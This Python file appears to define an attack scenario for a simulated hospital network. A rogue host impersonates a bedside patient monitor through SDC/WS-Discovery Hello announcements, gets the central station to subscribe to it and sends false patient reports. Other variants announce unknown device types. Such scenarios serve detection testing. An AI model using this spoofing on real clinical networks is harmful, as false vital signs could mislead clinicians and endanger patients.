"""A device at the bedside that is none (ATT&CK T1557; row "rogue SDC provider / device discovery spoof").

takeover: a host that was plugged in says Hello under the endpoint reference of a patient monitor, from its own card; the central station
finds, reads and subscribes to it, and takes ten reports of false values; then the monitor says Hello itself. hello: the announcement alone,
and a Bye. stranger: the same host announces a type of device that intensive care never had, and a host in an office a medical device, where
there is none.
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path

from act import Doing
from acts import bedside
from acts.watching import HEARD_S
from clients import control
from lan import RangeError
from links.sdc import endpoint
from scenario import Scenario, Script
from services.clinical import DAEMONS, SDC_PORT
from services.clinical import control as socket_of
from state import Hospital
from topology import Host

VICTIM, STATION, ROGUE, OFFICE = "mon01", "central", "rogue-icu", "rogue-office"
FALSE_REPORTS, START_S = 10, 20.0
STRANGE = ("http://zz.test/types", "HeartLungMachine")
"""A type that a device of this hospital never had."""


@contextmanager
def impostor(hospital: Hospital, here: str, who: Host) -> Iterator[Path]:
    """The device program under somebody's serial number, and so endpoint reference, where the calling thread is; its control socket."""
    path = hospital.folder(here) / "sdc.control"
    path.unlink(missing_ok=True)
    words = ["--type", "monitor", "--address", hospital.address(here), "--port", str(SDC_PORT), "--maker", who.maker, "--model", who.model]
    words += ["--serial", who.serial, "--bed", f"ICU1/Bed{who.address[-1]}", "--control", str(path)]
    with subprocess.Popen([sys.executable, DAEMONS / "sdc_device.py", *words], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as device:
        try:
            if not device.stdout or not device.stdout.readline().startswith(b"listening"):
                raise RangeError("the impostor does not start")
            yield path
        finally:
            device.terminate()


def take_over(hospital: Hospital, moment: datetime) -> None:
    with impostor(hospital, ROGUE, hospital.host(VICTIM)) as path:
        for _ in range(2):  # each has a higher metadata version, and the highest is believed
            control.tell(path, "hello")
        time.sleep(HEARD_S)
        number = len(bedside.devices(hospital)) + 1
        control.tell(socket_of(hospital, hospital.host(STATION), "sdc_consumer"), f"discover {number} 3")
        control.tell(path, f"report {FALSE_REPORTS} {moment.isoformat()}")


def announce(name: str, serial: str, *more: tuple[str, str]) -> Doing:
    """One Hello as a medical device, and of more types, and when it was heard, a Bye (WS-Discovery 1.1 4.1, 4.2)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        from sdc11073.definitions_sdc import SdcV1Definitions
        from sdc11073.wsdiscovery import WSDiscovery
        from sdc11073.xml_types.wsd_types import ScopesType
        from sdc11073.xml_utils import QName

        types = [*SdcV1Definitions.MedicalDeviceTypesFilter, *(QName(*one) for one in more)]
        discovery = WSDiscovery(hospital.address(name))
        discovery.start()
        discovery.publish_service(endpoint(serial).urn, types, ScopesType(), [f"http://{hospital.address(name)}:{SDC_PORT}/zz"])
        time.sleep(HEARD_S)
        discovery.stop()

    return doing


def takeover(script: Script) -> None:
    pairs = tuple((STATION, one.name) for one in bedside.devices(script.hospital))
    script.act(ROGUE, "a monitor's place taken", take_over, STATION, beyond=pairs, goes_on=True)
    script.wait(300)
    script.act(VICTIM, "the monitor says that it is here", _say_hello, STATION)


def _say_hello(hospital: Hospital, moment: datetime) -> None:
    for _ in range(3):
        control.tell(socket_of(hospital, hospital.host(VICTIM), "sdc_device"), "hello")
    time.sleep(HEARD_S)


def hello(script: Script) -> None:
    script.act(ROGUE, "a monitor's name called", announce(ROGUE, script.hospital.host(VICTIM).serial), STATION)


def stranger(script: Script) -> None:
    script.act(ROGUE, "a type never seen here announced", announce(ROGUE, "ZZSTRANGE1", STRANGE), STATION)
    script.wait(60)
    script.act(OFFICE, "a medical device announced in an office", announce(OFFICE, "ZZSTRANGE2"))


SCENARIO = Scenario(
    name="rogue-provider",
    title="A device at the bedside that is none",
    technique=("T1557",),
    variants={"takeover": takeover, "hello": hello, "stranger": stranger},
    row="rogue SDC provider / device discovery spoof",
)
